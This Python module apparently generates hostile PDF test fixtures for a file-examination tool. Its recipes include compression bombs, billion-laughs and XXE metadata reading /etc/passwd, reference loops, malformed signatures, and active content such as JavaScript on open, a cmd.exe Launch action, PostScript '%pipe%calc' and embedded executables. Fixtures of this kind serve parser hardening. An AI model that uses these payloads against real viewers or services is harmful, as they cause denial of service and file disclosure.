"""Files made to harm whoever parses them, each by a small recipe of its own; all bytes are made here.

A recipe asks one question: what does an examination do with this trick? Sizes are as small as it allows.
"""

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

import pikepdf

Recipe = Callable[[], bytes]
RECIPES: dict[str, Recipe] = {}
MEBIBYTE = 2**20


def recipe(make: Recipe) -> Recipe:
    """Take a recipe into the list, under its name."""
    RECIPES[make.__name__] = make
    return make


# Building blocks ---------------------------------------------------------------------------------------


def written(objects: dict[int, bytes], *, trailer: bytes = b"", head: bytes = b"%PDF-1.7\n") -> bytes:
    """Write numbered objects as a PDF with a classic cross-reference table; object 1 is the catalogue."""
    out = bytearray(head)
    places = {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 00000 f \n"
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<>>>>"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """Write a stream object."""
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), entries, data)


def paper(**changes: bytes) -> bytes:
    """Write a plain page, with some of its objects replaced: catalogue, pages, page, contents, more."""
    objects = {
        1: changes.get("catalogue", CATALOGUE),
        2: changes.get("pages", PAGES),
        3: changes.get("page", PAGE),
        4: changes.get("contents", stream(b"BT ET")),
    }
    if "more" in changes:
        objects[5] = changes["more"]
    return written(objects, trailer=changes.get("trailer", b""))


def honest() -> bytes:
    """Make a page that nothing is wrong with."""
    made = BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(made)
    return made.getvalue()


def with_action(action: bytes) -> bytes:
    """Write a page whose opening does something."""
    return paper(catalogue=b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>" % action)


def deflated(size: int) -> bytes:
    """Deflate `size` zeros (whole MiB): one block, written again and again (RFC 1950, RFC 1951)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(MEBIBYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = ((size % 65521) << 16) | 1  # Adler-32 of zeros
    return b"\x78\xda" + block * (size // MEBIBYTE) + b"\x03\x00" + struct.pack(">I", checksum)


# Bombs -------------------------------------------------------------------------------------------------


@recipe
def flate_bomb_in_the_page() -> bytes:
    return paper(contents=stream(deflated(1024 * MEBIBYTE), b"/Filter/FlateDecode"))


@recipe
def flate_bomb_in_two_coats() -> bytes:
    inner = zlib.compress(deflated(1024 * MEBIBYTE), 9)
    return paper(contents=stream(inner, b"/Filter[/FlateDecode/FlateDecode]"))


@recipe
def flate_bomb_in_three_coats() -> bytes:
    inner = zlib.compress(zlib.compress(deflated(2048 * MEBIBYTE), 9), 9)
    return paper(contents=stream(inner, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"))


@recipe
def run_length_bomb() -> bytes:
    return paper(contents=stream(b"\x81\x00" * (4 * MEBIBYTE) + b"\x80", b"/Filter/RunLengthDecode"))


@recipe
def hexadecimal_in_fourteen_coats() -> bytes:
    data = b"00"
    for _ in range(14):
        data = data.hex().encode()
    return paper(contents=stream(data + b">", b"/Filter[" + b"/ASCIIHexDecode" * 14 + b"]"))


@recipe
def hexadecimal_with_a_stranger_before_a_bomb() -> bytes:
    data = b"?" + deflated(128 * MEBIBYTE).hex().encode() + b">"
    return paper(contents=stream(data, b"/Filter[/ASCIIHexDecode/FlateDecode]"))


@recipe
def a_predictor_between_two_coats() -> bytes:
    inner = deflated(128 * MEBIBYTE)
    rows = b"".join(b"\x00" + inner[at : at + 64] for at in range(0, len(inner), 64))
    parameters = b"/DecodeParms[<</Predictor 15/Columns 64>>null]"
    return paper(contents=stream(zlib.compress(rows), b"/Filter[/FlateDecode/FlateDecode]" + parameters))


@recipe
def lzw_of_another_width() -> bytes:
    data = bytes.fromhex("800B6050220C0C8501")
    return paper(contents=stream(data, b"/Filter/LZWDecode/DecodeParms<</EarlyChange 0>>"))


@recipe
def ascii85_of_zeros() -> bytes:
    return paper(contents=stream(b"z" * (8 * MEBIBYTE) + b"~>", b"/Filter/ASCII85Decode"))


@recipe
def lzw_that_never_ends() -> bytes:
    return paper(contents=stream(b"\x80\x0b" * MEBIBYTE, b"/Filter/LZWDecode"))


@recipe
def predictor_with_a_billion_columns() -> bytes:
    parameters = (
        b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 1000000000/Colors 32/BitsPerComponent 16>>"
    )
    return paper(contents=stream(zlib.compress(bytes(MEBIBYTE)), parameters))


@recipe
def picture_of_a_gigapixel() -> bytes:
    image = b"/Type/XObject/Subtype/Image/Width 40000/Height 40000/ColorSpace/DeviceRGB"
    image += b"/BitsPerComponent 8/Filter/FlateDecode"
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>"
    )
    return paper(page=page, contents=stream(b"/I Do"), more=stream(deflated(64 * MEBIBYTE), image))


@recipe
def forms_that_laugh() -> bytes:
    objects = {1: CATALOGUE, 2: PAGES, 4: stream(b"/F Do")}
    objects[3] = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>"
    )
    for number in range(5, 25):
        entries = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>" % (
            number + 1
        )
        objects[number] = stream(b"/F Do " * 10, entries)
    objects[25] = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return written(objects)


@recipe
def a_form_inside_itself() -> bytes:
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>"
    )
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>"
    return paper(page=page, contents=stream(b"/F Do"), more=stream(b"/F Do", entries))


@recipe
def patterns_within_patterns() -> bytes:
    within = b"/Resources<</Pattern<</P 5 0 R>>>>"
    entries = b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .0001/YStep .0001"
    entries += within
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 14400 14400]/Contents 4 0 R" + within + b">>"
    fill = b"/Pattern cs /P scn 0 0 14400 14400 re f"
    return paper(page=page, contents=stream(fill), more=stream(fill, entries))


# Drawings that lie elsewhere than in the forms of a page ---------------------------------------------------


def drawing(objects: dict[int, bytes], resources: bytes, contents: bytes, more: bytes = b"") -> bytes:
    """Write a page with resources of its own; more objects begin at 5."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R%s/Resources<<%s>>>>"
    plain = {1: CATALOGUE, 2: PAGES, 3: page % (more, resources), 4: stream(contents)}
    return written(plain | objects)


_FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]"


def laughing(draws: bytes = b" /X Do") -> dict[int, bytes]:
    """Write seven forms (objects 5 to 11), each of which draws the next one twelve times."""
    forms = {
        number: stream(draws * 12, _FORM + b"/Resources<</XObject<</X %d 0 R>>>>" % (number + 1))
        for number in range(5, 12)
    }
    return forms | {12: stream(b"0 0 9 9 re f", _FORM)}


@recipe
def notes_that_laugh() -> bytes:
    note = b"/Annots[<</Type/Annot/Subtype/Stamp/F 4/Rect[0 0 595 842]/AP<</N<</On 5 0 R>>>>/AS/On>>]"
    return drawing(laughing(), b"", b"", note)


@recipe
def masks_that_laugh() -> bytes:
    paints, group = b" q /G gs 0 0 300 300 re f Q" * 12, b"/Group<</S/Transparency/CS/DeviceGray>>"
    state = b"/ExtGState<</G<</SMask<</S/Luminosity/G %d 0 R>>>>>>"
    masks = {
        number: stream(paints, _FORM + group + b"/Resources<<%s>>" % (state % (number + 1)))
        for number in range(5, 11)
    }
    masks[11] = stream(b"0 0 300 300 re f", _FORM + group)
    return drawing(masks, state % 5, paints)


@recipe
def a_mask_behind_much_that_is_painted() -> bytes:
    """The mask is chosen once, and is still there when a form paints."""
    state = b"/ExtGState<</G<</SMask<</S/Luminosity/G 6 0 R>>>>>>/XObject<</P 5 0 R>>"
    once = b"/G gs q 1 0 0 1 0 0 cm Q /P Do"
    forms = {5: stream(b"0 0 9 9 re f " * 5_000, _FORM), 6: stream(b"0 0 9 9 re f " * 5_000, _FORM)}
    return drawing(forms, state, once)


_TYPE3 = (
    b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1000 1000]/FontMatrix[.001 0 0 .001 0 0]"
    b"/FirstChar 97/LastChar 97/Widths[1000]/Encoding<</Differences[97/a]>>"
    b"/CharProcs<</a %d 0 R>>/Resources<<%s>>>>"
)


@recipe
def letters_that_laugh() -> bytes:
    shown = b"BT /F 1 Tf (" + b"a" * 200 + b") Tj ET"
    objects = {}
    for number in range(5, 19, 2):
        objects[number] = _TYPE3 % (number + 1, b"/Font<</F %d 0 R>>" % (number + 2))
        objects[number + 1] = stream(b"1000 0 d0 " + shown)
    objects |= {19: _TYPE3 % (20, b""), 20: stream(b"1000 0 d0 0 0 500 500 re f")}
    return drawing(objects, b"/Font<</F 5 0 R>>", shown)


@recipe
def letters_made_of_forms_that_laugh() -> bytes:
    font = {13: _TYPE3 % (14, b"/XObject<</X 5 0 R>>"), 14: stream(b"1000 0 d0 /X Do")}
    return drawing(laughing() | font, b"/Font<</F 13 0 R>>", b"BT /F 12 Tf <61> Tj ET")


@recipe
def a_letter_that_writes_itself() -> bytes:
    shown = b"BT /F 1 Tf (a) Tj ET"
    font = {5: _TYPE3 % (6, b"/Font<</F 5 0 R>>"), 6: stream(b"1000 0 d0 " + shown)}
    return drawing(font, b"/Font<</F 5 0 R>>", shown)


@recipe
def forms_that_laugh_in_the_resources_of_the_page() -> bytes:
    """A form without resources finds its names in the page's."""
    named = b"/XObject<<" + b"".join(b"/X%d %d 0 R" % (number, number) for number in range(5, 13)) + b">>"
    forms = {number: stream(b" /X%d Do" % (number + 1) * 12, _FORM) for number in range(5, 12)}
    return drawing(forms | {12: stream(b"0 0 9 9 re f", _FORM)}, named, b"/X5 Do")


@recipe
def forms_that_laugh_in_the_resources_of_the_tree() -> bytes:
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1/Resources<</XObject<</X 5 0 R>>>>>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    return written({1: CATALOGUE, 2: pages, 3: page, 4: stream(b"/X Do"), **laughing()})


@recipe
def forms_that_laugh_behind_remarks() -> bytes:
    return drawing(laughing(b"/#58%\nDo "), b"/XObject<</X 5 0 R>>", b"/X%\nDo")


@recipe
def patterns_that_laugh() -> bytes:
    tile = b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 99 99]/XStep 99/YStep 99"
    fills = b"/Pattern cs /P scn " + b"0 0 99 99 re f " * 12
    named = b"/Pattern<</P %d 0 R>>"
    tiles = {n: stream(fills, tile + b"/Resources<<%s>>" % (named % (n + 1))) for n in range(5, 12)}
    return drawing(tiles | {12: stream(b"0 0 9 9 re f", tile)}, named % 5, fills)


@recipe
def a_long_form_drawn_often() -> bytes:
    form = stream(zlib.compress(b"0 0 9 9 re f " * 400_000, 9), _FORM + b"/Filter/FlateDecode")
    return drawing({5: form}, b"/XObject<</X 5 0 R>>", b"/X Do " * 5_000)


@recipe
def a_large_picture_drawn_often() -> bytes:
    image = b"/Type/XObject/Subtype/Image/Width 8000/Height 8000/ColorSpace/DeviceGray/BitsPerComponent 1"
    packed = stream(zlib.compress(bytes(8 * MEBIBYTE), 9), image + b"/Filter/FlateDecode")
    return drawing({5: packed}, b"/XObject<</I 5 0 R>>", b"/I Do " * 2_000)


@recipe
def a_picture_of_gigapixels_within_the_content() -> bytes:
    told = b"BI %ID\n/#57 60000 /H 60000 /BPC 8 /CS /RGB /F /RL ID "
    return drawing({}, b"", told + b"\x81\x00" * 1_000 + b" EI")


@recipe
def shading_by_an_endless_calculation() -> bytes:
    steps = b"{" + b" 2 copy mul sin exch cos exch" * 3_000 + b" pop pop 0 0 0 }"
    function = stream(
        zlib.compress(steps, 9), b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]/Filter/FlateDecode"
    )
    shading = (
        b"<</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 1 0 1]/Matrix[600 0 0 800 0 0]/Function 6 0 R>>"
    )
    return drawing({5: shading, 6: function}, b"/Shading<</S 5 0 R>>", b"/S sh")


@recipe
def functions_that_laugh() -> bytes:
    parts = b"<</FunctionType 3/Domain[0 1]/Bounds[.5]/Encode[0 1 0 1]/Functions[%d 0 R %d 0 R]>>"
    functions = {number: parts % (number + 1, number + 1) for number in range(6, 46)}
    functions[46] = b"<</FunctionType 2/Domain[0 1]/C0[0]/C1[1]/N 1>>"
    functions[5] = b"<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 1 1]/Function 6 0 R>>"
    return drawing(functions, b"/Shading<</S 5 0 R>>", b"/S sh")


@recipe
def a_function_inside_itself() -> bytes:
    function = b"<</FunctionType 3/Domain[0 1]/Bounds[]/Encode[0 1]/Functions[6 0 R]>>"
    shading = b"<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 1 1]/Function 6 0 R>>"
    return drawing({5: shading, 6: function}, b"/Shading<</S 5 0 R>>", b"/S sh")


@recipe
def colours_by_an_endless_calculation() -> bytes:
    steps = stream(b"{" + b" dup mul" * 20_000 + b"}", b"/FunctionType 4/Domain[0 1]/Range[0 1]")
    space = b"/ColorSpace<</C[/Separation/Spot/DeviceGray 5 0 R]>>"
    return drawing({5: steps}, space, b"/C cs " + b".5 scn 0 0 9 9 re f " * 100_000)


@recipe
def object_stream_bomb() -> bytes:
    return paper(more=stream(deflated(512 * MEBIBYTE), b"/Type/ObjStm/N 100000/First 10/Filter/FlateDecode"))


@recipe
def cross_reference_stream_bomb() -> bytes:
    body = stream(
        deflated(512 * MEBIBYTE), b"/Type/XRef/Size 90000000/W[1 4 2]/Root 1 0 R/Filter/FlateDecode"
    )
    out = b"%PDF-1.7\n1 0 obj\n" + CATALOGUE + b"\nendobj\n"
    start = len(out)
    return out + b"2 0 obj\n" + body + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


@recipe
def metadata_of_laughing_entities() -> bytes:
    laughs = [f"&e{number};" * 10 for number in range(11)]
    lines = "".join(f'<!ENTITY e{number} "{ten}">' for number, ten in enumerate(laughs, 1))
    xml = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{lines}]><x>&e11;</x>'.encode()
    catalogue = b"<</Type/Catalog/Pages 2 0 R/Metadata 5 0 R>>"
    return paper(catalogue=catalogue, more=stream(xml, b"/Type/Metadata/Subtype/XML"))


@recipe
def metadata_that_reads_the_password_file() -> bytes:
    xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    catalogue = b"<</Type/Catalog/Pages 2 0 R/Metadata 5 0 R>>"
    return paper(catalogue=catalogue, more=stream(xml, b"/Type/Metadata/Subtype/XML"))


# Depth and loops ---------------------------------------------------------------------------------------


@recipe
def arrays_a_hundred_thousand_deep() -> bytes:
    return paper(more=b"[" * 100_000 + b"]" * 100_000)


@recipe
def dictionaries_fifty_thousand_deep() -> bytes:
    return paper(more=b"<</A" * 50_000 + b" 1" + b">>" * 50_000)


@recipe
def page_tree_that_is_its_own_child() -> bytes:
    return paper(pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>")


@recipe
def page_tree_ten_thousand_deep() -> bytes:
    objects = {1: CATALOGUE}
    for number in range(2, 10_002):
        parent = b"/Parent %d 0 R" % (number - 1) if number > 2 else b""
        objects[number] = b"<</Type/Pages/Kids[%d 0 R]/Count 1%s>>" % (number + 1, parent)
    objects[10_002] = b"<</Type/Page/Parent 10001 0 R/MediaBox[0 0 9 9]>>"
    return written(objects)


@recipe
def page_whose_parent_is_itself() -> bytes:
    return paper(page=b"<</Type/Page/Parent 3 0 R/Contents 4 0 R>>")


@recipe
def cross_reference_that_goes_in_a_circle() -> bytes:
    whole = honest()
    start = whole.rindex(b"startxref")
    place = int(whole[start:].split()[1])
    return (
        whole[:start] + b"startxref\n%d\n%%%%EOF\nxref\n0 0\n"
        b"trailer\n<</Size 9/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
        % (
            place,
            start + 20,
            start + 20,
        )
    )


@recipe
def length_that_is_its_own_stream() -> bytes:
    return paper(contents=b"<</Length 4 0 R>>\nstream\nBT ET\nendstream")


@recipe
def reference_to_a_reference_to_itself() -> bytes:
    return written({1: b"2 0 R", 2: b"3 0 R", 3: b"1 0 R"})


@recipe
def outline_in_a_circle() -> bytes:
    catalogue = b"<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R>>"
    return paper(catalogue=catalogue, more=b"<</Type/Outlines/First 5 0 R/Last 5 0 R/Next 5 0 R/Count 9>>")


@recipe
def name_tree_in_a_circle() -> bytes:
    catalogue = b"<</Type/Catalog/Pages 2 0 R/Names<</Dests 5 0 R>>>>"
    return paper(catalogue=catalogue, more=b"<</Kids[5 0 R 5 0 R 5 0 R]/Limits[(a)(z)]>>")


@recipe
def form_fields_in_a_circle() -> bytes:
    catalogue = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[5 0 R]/SigFlags 3>>>>"
    return paper(catalogue=catalogue, more=b"<</FT/Sig/T(a)/Kids[5 0 R]/Parent 5 0 R>>")


# Lies --------------------------------------------------------------------------------------------------


@recipe
def a_billion_pages_promised() -> bytes:
    return paper(pages=b"<</Type/Pages/Kids[3 0 R]/Count 1000000000>>")


@recipe
def a_negative_number_of_pages() -> bytes:
    return paper(pages=b"<</Type/Pages/Kids[3 0 R]/Count -7>>")


@recipe
def stream_length_beyond_the_file() -> bytes:
    return paper(contents=b"<</Length 999999999>>\nstream\nBT ET\nendstream")


@recipe
def negative_stream_length() -> bytes:
    return paper(contents=b"<</Length -1>>\nstream\nBT ET\nendstream")


@recipe
def number_of_nine_thousand_digits() -> bytes:
    return paper(more=b"9" * 9_000)


@recipe
def cross_reference_of_a_billion_entries() -> bytes:
    return (
        honest().replace(b"xref\n0 ", b"xref\n0 1000000000 ", 1)
        if b"xref\n0 " in honest()
        else _lying_table()
    )


def _lying_table() -> bytes:
    return paper().replace(b"xref\n0 5", b"xref\n0 1000000000", 1)


@recipe
def cross_reference_beyond_the_file() -> bytes:
    return paper().replace(b"startxref\n", b"startxref\n99999", 1)


@recipe
def paper_as_large_as_a_country() -> bytes:
    return paper(page=b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e30 1e30]/Contents 4 0 R/Resources<<>>>>")


@recipe
def paper_without_any_size() -> bytes:
    return paper(page=b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 0 0]/UserUnit 0/Contents 4 0 R>>")


@recipe
def paper_measured_in_words() -> bytes:
    return paper(page=b"<</Type/Page/Parent 2 0 R/MediaBox[(a)(b)/c null]/Contents 4 0 R>>")


@recipe
def user_unit_of_a_million() -> bytes:
    return paper(page=b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/UserUnit 1000000/Contents 4 0 R>>")


@recipe
def three_hundred_thousand_objects() -> bytes:
    return written(
        {1: CATALOGUE, 2: PAGES, 3: PAGE, 4: stream(b""), **{n: b"null" for n in range(5, 300_010)}}
    )


# Signatures --------------------------------------------------------------------------------------------


def signed(value: bytes, *, fields: bytes = b"[5 0 R]") -> bytes:
    """Write a page with a signature field over a signature dictionary of our making."""
    catalogue = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields %s/SigFlags 3>>>>" % fields
    return written(
        {
            1: catalogue,
            2: PAGES,
            3: PAGE,
            4: stream(b"BT ET"),
            5: b"<</FT/Sig/T(Signature1)/V 6 0 R/Type/Annot/Subtype/Widget/Rect[0 0 0 0]/P 3 0 R>>",
            6: value,
        }
    )


_SIG = b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[%s]/Contents<%s>>>"


@recipe
def signature_of_twenty_megabytes() -> bytes:
    return signed(_SIG % (b"0 100 200 100", b"30" * (20 * MEBIBYTE)))


@recipe
def signature_of_zeros() -> bytes:
    return signed(_SIG % (b"0 100 200 100", b"00" * 4000))


@recipe
def signature_of_nothing() -> bytes:
    return signed(_SIG % (b"0 100 200 100", b""))


@recipe
def signature_of_nested_sequences() -> bytes:
    return signed(_SIG % (b"0 100 200 100", (b"\x30\x80" * 20_000).hex().encode()))


@recipe
def signature_with_a_length_of_two_to_the_sixty() -> bytes:
    return signed(_SIG % (b"0 100 200 100", (b"\x30\x88" + struct.pack(">Q", 2**60)).hex().encode()))


@recipe
def byte_range_beyond_the_file() -> bytes:
    return signed(_SIG % (b"0 100 200 99999999999", b"3000"))


@recipe
def byte_range_below_nothing() -> bytes:
    return signed(_SIG % (b"-5 100 -200 100", b"3000"))


@recipe
def byte_range_of_words() -> bytes:
    return signed(_SIG % (b"/a (b) null true", b"3000"))


@recipe
def byte_range_of_ten_thousand_parts() -> bytes:
    return signed(_SIG % (b"0 1 " * 5_000, b"3000"))


@recipe
def byte_ranges_that_overlap() -> bytes:
    return signed(_SIG % (b"0 500 100 500", b"3000"))


@recipe
def signature_that_is_a_number() -> bytes:
    return signed(b"42")


@recipe
def signature_that_is_its_own_field() -> bytes:
    return signed(b"5 0 R")


@recipe
def three_thousand_signature_fields() -> bytes:
    return signed(_SIG % (b"0 100 200 100", b"3000"), fields=b"[" + b"5 0 R " * 3_000 + b"]")


@recipe
def field_name_with_a_full_stop() -> bytes:
    return signed(_SIG % (b"0 100 200 100", b"3000")).replace(b"(Signature1)", b"(a.b.c....)")


@recipe
def sixty_revisions() -> bytes:
    whole = paper()
    for _ in range(60):
        start = whole.rindex(b"startxref\n") + 10
        place = int(whole[start:].split()[0])
        head = len(whole)
        whole += b"xref\n0 0\ntrailer\n<</Size 5/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
            place,
            head,
        )
    return whole


# Active content ----------------------------------------------------------------------------------------


@recipe
def script_that_runs_on_opening() -> bytes:
    return with_action(b"<</S/JavaScript/JS(app.alert(1))>>")


@recipe
def script_with_an_escaped_name() -> bytes:
    return with_action(b"<</S/Java#53cript/J#53(app.alert(1))>>")


@recipe
def script_in_a_name_tree() -> bytes:
    return paper(
        catalogue=b"<</Type/Catalog/Pages 2 0 R/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>>>"
    )


@recipe
def script_inside_an_object_stream() -> bytes:
    made = BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        pdf.save(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return made.getvalue()


@recipe
def launches_a_program() -> bytes:
    return with_action(b"<</S/Launch/F(cmd.exe)>>")


@recipe
def opens_another_file() -> bytes:
    return with_action(b"<</S/GoToR/F(\\\\\\\\host\\\\share\\\\x.pdf)/D[0/Fit]>>")


@recipe
def opens_a_file_within() -> bytes:
    return with_action(b"<</S/GoToE/T<</R/C>>>>")


@recipe
def sends_the_form_away() -> bytes:
    return with_action(b"<</S/SubmitForm/F(https://example.org/)>>")


@recipe
def fetches_form_data() -> bytes:
    return with_action(b"<</S/ImportData/F(x.fdf)>>")


@recipe
def plays_a_film() -> bytes:
    return with_action(b"<</S/Rendition/OP 0>>")


@recipe
def form_of_another_kind() -> bytes:
    return paper(catalogue=b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA(x)>>/NeedsRendering true>>")


@recipe
def a_program_within() -> bytes:
    made = BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.attachments["x.exe"] = b"MZ" + bytes(100)
        pdf.save(made)
    return made.getvalue()


@recipe
def content_that_is_another_file() -> bytes:
    return paper(contents=b"<</Length 0/F(/etc/passwd)>>\nstream\n\nendstream")


@recipe
def page_action_in_a_note() -> bytes:
    note = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(x)>>>>"
    return paper(page=b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[" + note + b"]>>")


@recipe
def action_chained_behind_another() -> bytes:
    return with_action(b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(1)>>>>")


def with_note(note: bytes) -> bytes:
    """Write a page with an annotation on it."""
    return drawing({}, b"", b"", b"/Annots[<</Type/Annot/Rect[0 0 9 9]%s>>]" % note)


def with_catalogue(entries: bytes) -> bytes:
    """Write a page under a catalogue that says more."""
    return paper(catalogue=b"<</Type/Catalog/Pages 2 0 R%s>>" % entries)


@recipe
def a_picture_of_another_file_when_it_is_printed() -> bytes:
    form = stream(b"0 0 m", _FORM + b"/OPI<</1.3<</F(//host/x)>>>>")
    return drawing({5: form}, b"/XObject<</X 5 0 R>>", b"/X Do")


@recipe
def a_program_for_printers() -> bytes:
    program = stream(b"(%pipe%calc)(r)file", b"/Type/XObject/Subtype/PS")
    return drawing({5: program}, b"/XObject<</X 5 0 R>>", b"/X Do")


@recipe
def a_program_for_printers_in_a_form() -> bytes:
    form = {5: stream(b"0 0 m", _FORM + b"/Subtype2/PS/PS 6 0 R"), 6: stream(b"(%pipe%calc)(r)file")}
    return drawing(form, b"/XObject<</X 5 0 R>>", b"/X Do")


@recipe
def a_file_attached_by_its_name_alone() -> bytes:
    return with_note(b"/Subtype/FileAttachment/FS(//host/x.exe)")


@recipe
def a_file_attached_by_a_description_alone() -> bytes:
    return with_note(b"/Subtype/FileAttachment/FS<</Type/Filespec/F(//host/x.exe)>>")


@recipe
def a_file_at_an_address() -> bytes:
    return with_catalogue(b"/X<</Type/Filespec/FS/URL/F(http://host/x.exe)>>")


@recipe
def a_case_of_files() -> bytes:
    return with_catalogue(b"/Collection<</Type/Collection/View/T>>")


@recipe
def a_file_named_that_is_not_within() -> bytes:
    kids = b"/Kids[<</Limits[(a)(a)]/Names[(a)<</Type/Filespec/F(x.exe)>>]>>]"
    return with_catalogue(b"/Names<</EmbeddedFiles<<%s>>>>" % kids)


@recipe
def a_program_that_nobody_names() -> bytes:
    return paper(more=stream(b"MZ" + bytes(99), b"/Type/EmbeddedFile"))


@recipe
def links_that_begin_in_files() -> bytes:
    return with_catalogue(b"/URI<</Base(file://host/)>>")


@recipe
def a_demand_for_scripts() -> bytes:
    return with_catalogue(b"/Requirements[<</Type/Requirement/S/EnableJavaScripts>>]")


@recipe
def a_form_reset_on_opening() -> bytes:
    return with_action(b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/ResetForm>>>>")


def _attached(specification: bytes, content: bytes, *, associated: bytes = b"") -> bytes:
    """Write a paper with a file specification (object 5) of an embedded file (object 6)."""
    names = b"/Names<</EmbeddedFiles<</Names[(x) 5 0 R]>>>>"
    catalogue = b"<</Type/Catalog/Pages 2 0 R%s%s>>" % (names, associated)
    file = stream(content, b"/Type/EmbeddedFile/Subtype/text#2Fxml")
    far = stream(b"BT ET" + b"\n" * 1024)  # what follows is not at the head of the file
    return written({1: catalogue, 2: PAGES, 3: PAGE, 4: far, 5: specification, 6: file})


def associated(content: bytes, name: bytes = b"data.xml") -> bytes:
    """Write a paper with a file that is said to be associated XML."""
    specification = b"<</Type/Filespec/F(%s)/UF(%s)/EF<</F 6 0 R>>>>" % (name, name)
    return _attached(specification, content, associated=b"/AF[5 0 R]")


@recipe
def a_program_related_to_a_file_that_is_not_there() -> bytes:
    return _attached(b"<</Type/Filespec/F(a.exe)/RF<</F[(a.exe) 6 0 R]>>>>", b"MZ\x90\x00" + bytes(100))


@recipe
def a_page_drawn_from_another_file() -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F<</Type/Filespec/F(//host/a.pdf)>>/Page 0>>"
    page = PAGE.replace(b"/Resources<<>>", b"/Resources<</XObject<</X 5 0 R>>>>")
    return paper(page=page, contents=stream(b"/X Do"), more=stream(b"q Q", form))


@recipe
def a_thread_in_another_file() -> bytes:
    return with_action(b"<</S/Thread/F(//host/x.pdf)/D 0>>")


@recipe
def layers_switched_on_opening() -> bytes:
    return with_action(b"<</S/SetOCGState/State[]>>")


@recipe
def notes_hidden_on_opening() -> bytes:
    return with_action(b"<</S/Hide/T(x)>>")


@recipe
def a_page_of_the_web_called_xml() -> bytes:
    return associated(b"<html><script>alert(1)</script></html>")


@recipe
def a_script_deep_in_xml() -> bytes:
    return associated(b"<a><h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script></a>")


@recipe
def a_style_sheet_for_xml() -> bytes:
    return associated(b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='x.xsl'?><a/>")


@recipe
def a_program_behind_xml() -> bytes:
    return associated(b"<?xml version='1.0'?><a/>\nMZ\x90" + b"x" * 100)


@recipe
def xml_named_as_a_program() -> bytes:
    return associated(b"<?xml version='1.0'?><a/>", b"setup.exe")


@recipe
def xml_in_wide_letters_with_entities() -> bytes:
